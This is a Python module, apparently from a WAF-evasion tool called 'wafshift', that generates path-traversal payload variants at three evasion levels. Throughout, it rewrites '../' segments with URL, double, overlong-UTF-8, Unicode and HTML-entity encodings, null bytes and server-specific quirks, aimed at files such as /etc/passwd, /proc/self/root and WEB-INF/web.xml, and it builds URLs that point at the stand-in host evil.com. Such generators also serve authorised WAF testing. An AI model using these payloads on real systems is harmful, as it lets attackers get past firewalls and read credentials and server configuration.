"""Path traversal evasion variants.

Most transforms walk the path one ``/``-separated segment at a time: ``..``
segments get a traversal-specific rewrite, other segments may be partially
encoded, and the separators themselves may be replaced. Parser quirks of
specific servers (Tomcat, IIS, nginx, Apache) get their own transforms.
"""

from __future__ import annotations

import random
import string
from collections.abc import Callable

from wafshift.evasions._common import layered
from wafshift.models.types import EvasionLevel

PathTransform = Callable[[str, random.Random], str]

_ALPHANUM = string.ascii_letters + string.digits
_NULL_SUFFIXES = ("%00", "\x00", "%00.jpg", "%00.png", "%00.pdf")


def _keep(seg: str) -> str:
    return seg


def rewrite(
    path: str,
    dots: Callable[[], str],
    part: Callable[[str], str] = _keep,
    slash: Callable[[], str] | None = None,
) -> str:
    """Rebuild ``path`` segment by segment.

    ``dots`` produces the replacement for each ``..`` segment, ``part``
    rewrites every other non-empty segment and ``slash`` (when given)
    produces each separator.
    """
    out: list[str] = []
    for i, seg in enumerate(path.split("/")):
        if i:
            out.append(slash() if slash else "/")
        if seg == "..":
            out.append(dots())
        elif seg:
            out.append(part(seg))
    return "".join(out)


def _sometimes(rng: random.Random, odds: int, encode: Callable[[str], str]) -> Callable[[str], str]:
    """Per-character encoder that fires with probability ``1/odds``."""
    def apply(seg: str) -> str:
        return "".join(encode(ch) if rng.randrange(odds) == 0 else ch for ch in seg)
    return apply


def _random_string(rng: random.Random, length: int) -> str:
    return "".join(rng.choice(_ALPHANUM) for _ in range(length))


def _replace_traversal(path: str, rng: random.Random, replacements: tuple[str, ...]) -> str:
    if "../" not in path:
        return path
    return path.replace("../", rng.choice(replacements))


def null_byte_variants(path: str) -> list[str]:
    return [path + suffix for suffix in _NULL_SUFFIXES]


# --- Basic ---


def dot_slash_varying(path: str, rng: random.Random) -> str:
    return rewrite(
        path,
        lambda: "./.." if rng.randrange(2) == 0 else "..",
        lambda seg: "./" + seg if rng.randrange(3) == 0 else seg,
    )


def url_encoding(path: str, rng: random.Random) -> str:
    return rewrite(path, lambda: "%2e%2e", _sometimes(rng, 3, lambda ch: f"%{ord(ch):02x}"))


def mixed_encoding(path: str, rng: random.Random) -> str:
    def encode(seg: str) -> str:
        out: list[str] = []
        for ch in seg:
            if rng.randrange(4) == 0:
                out.append(f"%{ord(ch):02X}")
            elif rng.randrange(3) == 0:
                out.append(f"%{ord(ch):02x}")
            else:
                out.append(ch)
        return "".join(out)

    return rewrite(path, lambda: rng.choice(("%2e%2E", "%2E%2e", "%2E%2E", "%2e%2e")), encode)


def slash_backslash_mix(path: str, rng: random.Random) -> str:
    return "".join("\\" if ch == "/" and rng.randrange(2) == 0 else ch for ch in path)


def _redundant_dots(path: str, rng: random.Random) -> str:
    return rewrite(
        path,
        lambda: "." * rng.randint(3, 6),
        lambda seg: seg + "." if rng.randrange(5) == 0 and "." not in seg else seg,
    )


def _case_variation(path: str, rng: random.Random) -> str:
    return "".join(
        ch.swapcase() if ch.isascii() and ch.isalpha() and rng.randrange(2) == 0 else ch
        for ch in path
    )


def _non_readable_dirs(path: str, rng: random.Random) -> str:
    options = ("/./", "/././", "/.//", "/.")
    out: list[str] = []
    for i, seg in enumerate(path.split("/")):
        if i:
            out.append(rng.choice(options) if rng.randrange(3) == 0 else "/")
        out.append(seg)
    return "".join(out)


def _alternate_stream(path: str, rng: random.Random) -> str:
    return path + rng.choice((":$DATA", ":stream", ":alternate", ":$INDEX_ALLOCATION"))


def _combining_characters(path: str, rng: random.Random) -> str:
    marks = ("\u0301", "\u0307", "\u0308")

    def decorate(seg: str) -> str:
        return "".join(ch + (rng.choice(marks) if rng.randrange(5) == 0 else "") for ch in seg)

    return rewrite(path, lambda: ".\u0307.\u0307", decorate)


def _basic(path: str, rng: random.Random) -> list[str]:
    return [
        "./" + path,
        dot_slash_varying(path, rng),
        path.replace("/", "//"),
        url_encoding(path, rng),
        mixed_encoding(path, rng),
        slash_backslash_mix(path, rng),
        _redundant_dots(path, rng),
        _case_variation(path, rng),
        _non_readable_dirs(path, rng),
        _alternate_stream(path, rng),
        _combining_characters(path, rng),
        *null_byte_variants(path),
    ]


# --- Medium ---


def double_url_encoding(path: str, rng: random.Random) -> str:
    return rewrite(
        path,
        lambda: rng.choice(("%252e%252e", "%252E%252E", "%252e%252E", "%252E%252e")),
        _sometimes(rng, 3, lambda ch: f"%25{ord(ch):02x}"),
        lambda: "%252f" if rng.randrange(3) == 0 else "/",
    )


def unicode_encoding(path: str, rng: random.Random) -> str:
    return rewrite(
        path,
        lambda: rng.choice(("%u002e%u002e", "%u002E%u002E", "%u00ae", "\u2024\u2024")),
        _sometimes(rng, 3, lambda ch: f"%u{ord(ch):04x}" if ord(ch) < 127 else ch),
        lambda: "%u002f" if rng.randrange(3) == 0 else "/",
    )


def _normalization(path: str, rng: random.Random) -> str:
    return rewrite(
        path,
        lambda: rng.choice(("../x/../..", "../././..", "../abc/../def/./..", "../test/../../")),
        lambda seg: "./" + seg + "/." if rng.randrange(4) == 0 else seg,
    )


def _self_referencing(path: str, rng: random.Random) -> str:
    return rewrite(path, lambda: rng.choice((".", "./.", "./././.")) + "..")


def _repetitive(path: str, rng: random.Random) -> str:
    return rewrite(
        path,
        lambda: rng.choice(("../x/..", "../abc/../", "../test/../", "../temp/../", "../dir1/dir2/../../")),
    )


def _environment_vars(path: str, rng: random.Random) -> str:
    if "etc/passwd" in path:
        return rng.choice((
            "${HOME}/../../../etc/passwd",
            "${DOCUMENT_ROOT}/../../etc/passwd",
            "${USER_DIR}/../../../etc/passwd",
            "${SYSTEMROOT}/../../../etc/passwd",
            "%SYSTEMROOT%\\..\\..\\..\\etc\\passwd",
        ))
    if "etc" in path:
        _, sep, rest = path.partition("etc/")
        base = rest if sep else "passwd"
        return rng.choice((
            "${PWD}/../../../etc/" + base,
            "${DOCUMENT_ROOT}/../../etc/" + base,
            "${SYSTEMROOT}/../../../etc/" + base,
            "%SYSTEMROOT%\\..\\..\\..\\etc\\" + base.replace("/", "\\"),
        ))
    return rng.choice((
        "${OLDPWD}/" + path,
        "${HOME}/" + path,
        "${PWD}/" + path,
        "%USERPROFILE%\\" + path.replace("/", "\\"),
    ))


def _aliasing(path: str, rng: random.Random) -> str:
    rest = path.removeprefix("../")
    return rng.choice(("~/../" + rest, "$HOME/../" + rest, ".//" + path, "./../" + rest))


def dot_dot_separation(path: str, rng: random.Random) -> str:
    return rewrite(
        path,
        lambda: rng.choice((".\\.", ".%09.", ".%0D.", ".%0A.", ".%20.", ".%2F.", ".%5C.", ".\t.", ". .")),
    )


def _html_entities(path: str, rng: random.Random) -> str:
    def entity(ch: str) -> str:
        return f"&#{ord(ch)};" if rng.randrange(2) == 0 else f"&#x{ord(ch):x};"

    return rewrite(
        path,
        lambda: rng.choice(("&#46;&#46;", "&#x2E;&#x2E;", "&#046;&#046;", "&#x02E;&#x02E;")),
        _sometimes(rng, 3, entity),
        lambda: rng.choice(("&#47;", "&#x2F;", "&#047;", "&#x02F;", "/")),
    )


def _multiple_representations(path: str, rng: random.Random) -> str:
    return rewrite(path, lambda: rng.choice((
        "%2e%2e", ".%2e", "%2e.", "%252e%252e", "..;", "..#", "..%00",
        "..%20", ".%252e", "%2e%252e", "..\r", "..\n", "..\t",
    )))


def _encoded_backslash(path: str, rng: random.Random) -> str:
    options = ("%5c", "%5C", "%255c", "%255C", "\\")
    first, *rest = path.split("/")
    return first + "".join(rng.choice(options) + seg for seg in rest)


def nested_encoding(path: str, rng: random.Random) -> str:
    def encode(ch: str) -> str:
        choice = rng.randrange(4)
        if choice == 1:
            return f"%{ord(ch):02x}"
        if choice == 2:
            return f"%25{ord(ch):02x}"
        if choice == 3 and ord(ch) < 128:
            return f"%u00{ord(ch):02x}"
        return ch

    return rewrite(
        path,
        lambda: rng.choice((".%2e", "%2e.", "%2e%252e", "%252e.", "%2e%2E", "%2E%2e")),
        lambda seg: "".join(encode(ch) for ch in seg),
    )


def _php_null_alternate(path: str, rng: random.Random) -> str:
    if rng.randrange(2) == 0:
        return path
    return path + rng.choice(("%00", "%00.jpg", "%00.png", "%00.gif", "%2500", "\x00", "A" * 2048))


def _jsp_web_inf(path: str, rng: random.Random) -> str:
    if not any(marker in path for marker in (".jsp", "servlet", "WEB-INF", "web.xml")):
        return path
    return rng.choice((
        "/WEB-INF/web.xml",
        "/%2e/WEB-INF/web.xml",
        "/blah/WEB-INF/web.xml",
        "/WEB-INF/./web.xml",
        "/./WEB-INF/web.xml",
        "/WEB-INF/classes/config.properties",
        "../../WEB-INF/web.xml",
        "..%252f..%252fWEB-INF/web.xml",
    ))


def _medium(path: str, rng: random.Random) -> list[str]:
    return [
        double_url_encoding(path, rng),
        unicode_encoding(path, rng),
        _normalization(path, rng),
        _self_referencing(path, rng),
        _repetitive(path, rng),
        _environment_vars(path, rng),
        _aliasing(path, rng),
        dot_dot_separation(path, rng),
        _html_entities(path, rng),
        _multiple_representations(path, rng),
        _encoded_backslash(path, rng),
        nested_encoding(path, rng),
        _replace_traversal(path, rng, ("..;/", "..//", "../././", "%252e%252e/", "..%c0%af")),
        _replace_traversal(path, rng, ("..//", "../\\", "../%2f", "../;/", "../ /")),
        _php_null_alternate(path, rng),
        _jsp_web_inf(path, rng),
    ]


# --- Advanced ---

_DOT_NORMALIZATION = (
    ".\u0323.", ".\u0307.", ".\u0323\u0307.", "\u2024\u2024", "\uff0e\uff0e", "\u2024\uff0e",
)
_ACCENTED = {"a": "\u00e0", "e": "\u00e9", "i": "\u00ed", "o": "\u00f3", "u": "\u00fa", "s": "\u0161"}
_PROTOCOLS = (
    "file:///", "jar:file:///", "jar:jar:file:///", "zip:file:///", "data:text/plain,",
    "netdoc:///", "gopher://", "expect://", "dict://", "ldap://", "smtp://",
    "file:\\\\\\", "php://filter/", "phar://", "zip://",
)
_BIDI_DOTS = (
    "\u200e..\u200e", "\u200f..\u200f", "\u200e.\u200e.\u200e", "\u202a..\u202c",
    "\u202e..\u202c", "\uff0e\uff0e", "\ufe3a..\ufe39",
)


def _hex_path(path: str, rng: random.Random) -> str:
    forms = ("\\x{0:02x}", "\\x{0:02X}", "\\{0:03o}")
    out: list[str] = []
    for i, seg in enumerate(path.split("/")):
        if i:
            out.append("\\x2f" if rng.randrange(3) == 0 else "/")
        out.append("".join(rng.choice(forms).format(ord(ch)) for ch in seg))
    return "".join(out)


def _unicode_normalization(path: str, rng: random.Random) -> str:
    return rewrite(
        path,
        lambda: rng.choice(_DOT_NORMALIZATION),
        _sometimes(rng, 5, lambda ch: _ACCENTED.get(ch, ch)),
    )


def percent_utf8(path: str, rng: random.Random) -> str:
    return rewrite(
        path,
        lambda: rng.choice((
            "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "%f0%80%80%ae%f0%80%80%ae",
            "%c0%2e%c0%2e", "%c0%ae.%c0%ae",
        )),
        _sometimes(rng, 5, lambda ch: f"%c0%{ord(ch) + 128:x}" if ord(ch) < 128 else ch),
        lambda: "%c0%af" if rng.randrange(3) == 0 else "/",
    )


def _overlong_utf8(path: str, rng: random.Random) -> str:
    return rewrite(
        path,
        lambda: rng.choice((
            "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "%f0%80%80%ae%f0%80%80%ae",
            "%c0%ae%e0%80%ae", "%e0%80%ae%c0%ae",
        )),
        slash=lambda: rng.choice(("%c0%af", "%e0%80%af", "%f0%80%80%af", "/")),
    )


def _protocol_handler(path: str, rng: random.Random) -> str:
    if rng.randrange(3) == 0:
        return path
    return rng.choice(_PROTOCOLS) + path.removeprefix("/")


def _fragments(path: str, rng: random.Random) -> str:
    def fragment(seg: str) -> str:
        choice = rng.randrange(5)
        if choice == 0:
            return seg + "#" + _random_string(rng, 3)
        if choice == 1:
            return "#" + _random_string(rng, 2) + seg + "#" + _random_string(rng, 3)
        if choice == 2 and len(seg) > 2:
            mid = len(seg) // 2
            return seg[:mid] + "#" + _random_string(rng, 2) + seg[mid:]
        if choice == 3:
            return seg + "#" + _random_string(rng, 2) + "#" + _random_string(rng, 3)
        return seg

    out: list[str] = []
    for i, seg in enumerate(path.split("/")):
        if i:
            out.append("/")
        out.append(fragment(seg) if seg else seg)
    return "".join(out)


def _insert_query(path: str, rng: random.Random) -> str:
    segments = path.split("/")
    if len(segments) <= 2:
        return path + "?x=" + _random_string(rng, 5)
    position = rng.randint(1, len(segments) - 1)
    segments[position] += "?x=" + _random_string(rng, 5)
    return "/".join(segments)


def _insert_path_parameter(path: str, rng: random.Random) -> str:
    return "/".join(
        seg + ";" + _random_string(rng, 3) + "=" + _random_string(rng, 5)
        if seg and rng.randrange(3) == 0 else seg
        for seg in path.split("/")
    )


def _parameter_injection(path: str, rng: random.Random) -> str:
    choice = rng.randrange(6)
    if choice == 0:
        return path + "?x=" + _random_string(rng, 5)
    if choice == 1:
        return path + "?x=" + _random_string(rng, 3) + "&y=" + _random_string(rng, 4)
    if choice == 2:
        return _insert_query(path, rng)
    if choice == 3:
        return _insert_path_parameter(path, rng)
    if choice == 4:
        return f"{path}?_{_random_string(rng, 3)}={_random_string(rng, 5)}%20{_random_string(rng, 2)}"
    return path + "?q=%22" + _random_string(rng, 5) + "%22"


def _chain(path: str, rng: random.Random, transforms: tuple[PathTransform, ...], count: int) -> str:
    """Apply ``count`` distinct transforms picked at random, in pick order."""
    for transform in rng.sample(transforms, min(count, len(transforms))):
        path = transform(path, rng)
    return path


def _mixed_traversal(path: str, rng: random.Random) -> str:
    mixed = _chain(
        path,
        rng,
        (url_encoding, slash_backslash_mix, lambda p, _: p.replace("/", "//"),
         dot_dot_separation, unicode_encoding, percent_utf8),
        rng.randint(2, 3),
    )
    return rng.choice(null_byte_variants(mixed))


def _symlink(path: str, rng: random.Random) -> str:
    rest = path.removeprefix("../")
    return rng.choice((
        "/dev/null/../" + path,
        "/proc/self/cwd/" + rest,
        "/proc/self/root/" + rest,
        "/etc/passwd/../../" + path,
        "/var/www/html/uploads/symlink/../../../" + path,
        "/tmp/symlink/../" + path,
        "C:\\Windows\\system32\\..\\..\\..\\..\\" + path.replace("/", "\\"),
    ))


def _stacked_layers(path: str, rng: random.Random) -> str:
    return _chain(
        path,
        rng,
        (url_encoding, double_url_encoding, unicode_encoding, nested_encoding, percent_utf8),
        rng.randint(2, 4),
    )


def _apache_multiviews(path: str, rng: random.Random) -> str:
    prefix, _, last = path.rpartition("/")
    if "." not in last:
        return path
    stem, _, extension = last.rpartition(".")
    prefix = prefix + "/" if "/" in path else ""
    base = prefix + stem
    return rng.choice((
        base, base + ".", base + ";", base + "?", f"{base}+.{extension}", f"{base}%2e{extension}",
    ))


def _tomcat(path: str, rng: random.Random) -> str:
    if "../" not in path:
        return path
    return rng.choice((
        path.replace("../", ";/.."),
        path.replace("../", ";jsessionid=x/../"),
        path.replace("../", "%252e%252e/"),
        path.replace("../", "..;/"),
        path.replace("../", "../././"),
        path.replace("../", "..//"),
        path.replace("WEB-INF", "WEB-INF;/"),
        path.replace("WEB-INF", "WEB-INF;jsessionid=x"),
    ))


def _unicode_width(path: str, rng: random.Random) -> str:
    def wrap(seg: str) -> str:
        if rng.randrange(4) == 0:
            return "\u200e" + seg + "\u200e"
        if rng.randrange(3) == 0:
            return "\u202a" + seg + "\u202c"
        return seg

    return rewrite(path, lambda: rng.choice(_BIDI_DOTS), wrap)


def _header_path(path: str, rng: random.Random) -> str:
    return rng.choice((
        path,
        "file:" + path,
        "file://" + path,
        "\\" + path.replace("/", "\\"),
        "/var/www/" + path,
        "/usr/local/www/" + path,
        "%2e%2e%2f" + path,
    ))


def _backslash_at_sign(path: str, rng: random.Random) -> str:
    if "../" not in path:
        return path
    domain = ""
    if "://" in path:
        domain = path.split("://", 1)[1].split("/", 1)[0]
    domain = domain or "example.com"
    rest = path.removeprefix("../")
    return rng.choice((
        f"http://{domain}%5c@evil.com/{rest}",
        f"http://{domain}%5c%5c@evil.com/{rest}",
        f"http://user@{domain}%5c@evil.com/{rest}",
        f"http://user:password@{domain}%5c@evil.com/{rest}",
    ))


def _nonstandard_encoding(path: str, rng: random.Random) -> str:
    forms = ("{0}", "%{1:02x}", "&#{1};", "&#x{1:x};", "\\u{1:04x}", "\\x{1:02x}", "\\{1:03o}")

    def encode(seg: str) -> str:
        if rng.randrange(3) != 0:
            return seg
        return "".join(rng.choice(forms).format(ch, ord(ch)) for ch in seg)

    return rewrite(
        path,
        lambda: rng.choice((
            "%2e%2e", "%252e%252e", "%u002e%u002e", "&#46;&#46;", "&#x2E;&#x2E;",
            "%c0%ae%c0%ae", "0x2e0x2e", "\\u002e\\u002e", "\\x2e\\x2e", "\\056\\056",
        )),
        encode,
        lambda: rng.choice(("/", "%2f", "%252f", "%u002f", "&#47;", "&#x2F;", "%c0%af")),
    )


def _control_characters(path: str, rng: random.Random) -> str:
    def inject(seg: str) -> str:
        if rng.randrange(5) != 0:
            return seg
        pos = rng.randrange(len(seg))
        return seg[:pos] + rng.choice(("%00", "%09", "%0A", "%0D")) + seg[pos:]

    return rewrite(
        path,
        lambda: rng.choice((
            ".\x00.", ".\x07.", ".\x08.", ".\t.", ".\x0b.", ".\x0c.",
            ".%00.", ".%09.", ".%0A.", ".%0D.", ".%0D%0A.",
        )),
        inject,
    )


def _path_parameters(path: str, rng: random.Random) -> str:
    def dots() -> str:
        return rng.choice((
            "..;x=" + _random_string(rng, 3),
            "..;name=" + _random_string(rng, 5),
            "..;jsessionid=" + _random_string(rng, 10),
            "..;x=" + _random_string(rng, 3) + ";y=" + _random_string(rng, 3),
            ".;.;",
            ".;..",
            "..;",
        ))

    return rewrite(
        path,
        dots,
        lambda seg: seg + ";x=" + _random_string(rng, 3) if rng.randrange(4) == 0 else seg,
    )


def _advanced(path: str, rng: random.Random) -> list[str]:
    return [
        _hex_path(path, rng),
        _unicode_normalization(path, rng),
        percent_utf8(path, rng),
        _overlong_utf8(path, rng),
        _replace_traversal(path, rng, (
            "..%FE", "..%C1", "..%F5", "..%F0%9F%92%A9", "..%EF%BB%BF", "..%ED%A0%80",
        )),
        _protocol_handler(path, rng),
        _fragments(path, rng),
        _parameter_injection(path, rng),
        _mixed_traversal(path, rng),
        _symlink(path, rng),
        _stacked_layers(path, rng),
        _replace_traversal(path, rng, (
            "..\\", "..\\.\\", "..%5c", "..%255c", "..%u005c",
            "..%5c%2e%5c", "..%c0%af", "..%c0%5c", "..\\.\\.\\",
        )),
        _apache_multiviews(path, rng),
        _tomcat(path, rng),
        _unicode_width(path, rng),
        _header_path(path, rng),
        _backslash_at_sign(path, rng),
        _nonstandard_encoding(path, rng),
        _control_characters(path, rng),
        _path_parameters(path, rng),
    ]


def path_traversal_variants(
    payload: str, level: EvasionLevel, rng: random.Random | None = None,
) -> list[str]:
    return layered(payload, level, (_basic, _medium, _advanced), rng)
